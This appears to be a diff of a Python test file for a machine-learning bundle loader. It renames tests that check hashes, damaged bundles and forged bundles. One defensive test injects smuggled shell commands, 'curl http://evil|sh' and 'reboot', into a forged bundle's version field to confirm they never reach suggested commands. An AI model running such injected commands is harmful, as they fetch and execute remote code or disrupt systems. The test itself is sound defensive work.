@@ -27,7 +27,7 @@ def catalogue(host, tmp_path):
     return Catalogue(host, tmp_path / "cache")
 
 
-def test_a_bundle_predicts_what_was_measured(found, host, stripes, tmp_path):
+def test_a_bundle_predicts_as_in_the_test(found, host, stripes, tmp_path):
     loaded = bundle.load(found, Catalogue(host, tmp_path / "cache"))
     table = [line.split(",") for line in (found.parent / "data" / "split.csv").read_text().splitlines()]
     header, rows = table[0], table[1:]
@@ -38,7 +38,7 @@ def test_a_bundle_predicts_what_was_measured(found, host, stripes, tmp_path):
     assert right == pytest.approx(loaded.metrics["test"]["value"])
 
 
-def test_a_bundle_holds_only_the_stages_up_to_the_cut_and_no_pickle(found, host, tmp_path):
+def test_a_bundle_contains_only_the_stages_up_to_the_cut_and_no_pickle(found, host, tmp_path):
     loaded = bundle.load(found, Catalogue(host, tmp_path / "cache"))
     names = set(load_file(found / "weights.safetensors"))
     assert loaded.graph.stages.names[-1] == loaded.plan.cut
@@ -48,7 +48,7 @@ def test_a_bundle_holds_only_the_stages_up_to_the_cut_and_no_pickle(found, host,
     assert json.loads((found / "versions.json").read_text())["torch"] == loaded.plan.requires["torch"]
 
 
-def test_rows_of_probabilities_add_up_to_one_in_any_batch(found, host, tmp_path):
+def test_probabilities_sum_to_one_in_any_batch(found, host, tmp_path):
     loaded = bundle.load(found, Catalogue(host, tmp_path / "cache"))
     images = torch.randint(0, 256, (5, 3, 32, 32), dtype=torch.uint8)
     rows = loaded.probabilities(images)
@@ -56,7 +56,7 @@ def test_rows_of_probabilities_add_up_to_one_in_any_batch(found, host, tmp_path)
     torch.testing.assert_close(loaded.probabilities(images[2:3]), rows[2:3], atol=1e-5, rtol=1e-4)
 
 
-def test_what_is_no_bundle_is_refused(found, host, tmp_path):
+def test_a_folder_that_is_no_bundle_is_refused(found, host, tmp_path):
     catalogue = Catalogue(host, tmp_path / "cache")
     with pytest.raises(StudyError, match="is not a bundle: weights.safetensors"):
         bundle.load(tmp_path, catalogue)
@@ -89,7 +89,7 @@ def test_nothing_but_a_bundle_is_ever_replaced(found, host, stripes, tmp_path):
             bundle.check_target(repository)
 
 
-# Damaged bundles, and strangers'
+# Damaged bundles, and bundles from strangers
 
 
 def flip(name, at=-1):
@@ -167,7 +167,7 @@ def test_a_damaged_bundle_is_refused_in_one_line(found, catalogue, damage, says)
     with pytest.raises(StudyError) as caught:
         bundle.load(found, catalogue)
     assert says in str(caught.value) and "\n" not in str(caught.value)
-    assert bundle.plan_of(found) is None  # its study's search makes it again
+    assert bundle.plan_of(found) is None  # the search of its study writes it again
 
 
 def in_weights(change):
@@ -191,7 +191,7 @@ def in_plan(**changes):
 
 
 def hashed_again(folder):
-    """As whoever makes a bundle by intent would."""
+    """Recompute the hashes, as an attacker would."""
     hashes = {name: hashlib.sha256((folder / name).read_bytes()).hexdigest() for name in bundle.CARRIED}
     (folder / "hashes.json").write_text(json.dumps(hashes))
 
@@ -234,7 +234,7 @@ def hashed_again(folder):
         (in_plan(backbone="tiny:other"), "Unknown backbone 'tiny:other'"),
     ],
 )
-def test_what_a_strangers_bundle_claims_is_looked_at(found, catalogue, forge, says):
+def test_the_contents_of_a_strangers_bundle_are_checked(found, catalogue, forge, says):
     forge(found)
     hashed_again(found)
     with pytest.raises(AutotlError) as caught:
@@ -242,7 +242,7 @@ def test_what_a_strangers_bundle_claims_is_looked_at(found, catalogue, forge, sa
     assert says in str(caught.value) and "\n" not in str(caught.value)
 
 
-def test_preprocessing_is_what_the_plan_says(found, catalogue):
+def test_preprocessing_is_that_of_the_plan(found, catalogue):
     text = (found / "preprocessing.json").read_text()
     (found / "preprocessing.json").write_text(text.replace("bilinear", "nearest"))
     hashed_again(found)
@@ -250,7 +250,7 @@ def test_preprocessing_is_what_the_plan_says(found, catalogue):
         bundle.load(found, catalogue)
 
 
-def test_no_stranger_writes_a_command_that_the_user_pastes(found, catalogue):
+def test_suggested_commands_contain_nothing_from_a_strangers_bundle(found, catalogue):
     requires = {"x; curl http://evil|sh #": "1", "good_name": "1.0", "name": "1; reboot", "stages": "abc"}
     in_plan(backbone="evil:net", requires=requires)(found)
     hashed_again(found)
@@ -260,7 +260,7 @@ def test_no_stranger_writes_a_command_that_the_user_pastes(found, catalogue):
     assert "evil|sh" not in str(caught.value) and "reboot" not in str(caught.value)
 
 
-def test_a_damaged_bundle_of_a_study_is_made_again_by_its_search(found, host, stripes, catalogue):
+def test_a_damaged_bundle_of_a_study_is_written_again_by_its_search(found, host, stripes, catalogue):
     wanted = bundle.load(found, catalogue)
     flip(bundle.WEIGHTS)(found)
     settings = Settings(data=stripes, trials=2, backbones=("tiny:net",), strategies=("linear-probe",), device="cpu")
@@ -270,7 +270,7 @@ def test_a_damaged_bundle_of_a_study_is_made_again_by_its_search(found, host, st
     assert torch.equal(again.graph.weight, wanted.graph.weight)
 
 
-def test_an_image_without_an_answer_has_a_reason(found, catalogue, stripes, tmp_path):
+def test_an_image_without_a_prediction_has_a_reason(found, catalogue, stripes, tmp_path):
     loaded = bundle.load(found, catalogue)
     os.mkfifo(tmp_path / "pipe")
     (tmp_path / "film.jpg").touch()
